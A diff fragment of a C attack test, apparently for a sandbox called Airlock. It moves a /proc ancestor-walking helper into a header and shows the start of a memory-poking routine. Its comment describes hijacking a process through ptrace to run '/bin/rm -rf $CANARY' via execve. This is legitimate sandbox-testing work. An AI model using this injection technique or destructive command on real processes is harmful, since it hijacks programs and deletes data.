@@ -8,6 +8,7 @@
 // /bin/rm -rf $CANARY below its stack pointer, and sets the registers for execve. Our own
 // ancestors (the suite's wrapper shell) are skipped: hijacking them proves nothing about Airlock.
 #define _GNU_SOURCE
+#include "attack.h"
 #include <dirent.h>
 #include <errno.h>
 #include <signal.h>
@@ -19,23 +20,6 @@
 #include <sys/user.h>
 #include <sys/wait.h>
 #include <unistd.h>
-
-static int ancestor(pid_t pid) {
-    pid_t p = getppid();
-    for (int depth = 0; p > 1 && depth < 64; depth++) {
-        if (p == pid) return 1;
-        char path[64], line[256];
-        snprintf(path, sizeof path, "/proc/%d/status", p);
-        FILE *f = fopen(path, "r");
-        if (!f) break;
-        pid_t next = 0;
-        while (fgets(line, sizeof line, f))
-            if (sscanf(line, "PPid: %d", &next) == 1) break;
-        fclose(f);
-        p = next;
-    }
-    return 0;
-}
 
 static int poke(pid_t pid, uint64_t addr, const void *data, size_t len) {
     const unsigned char *p = data;
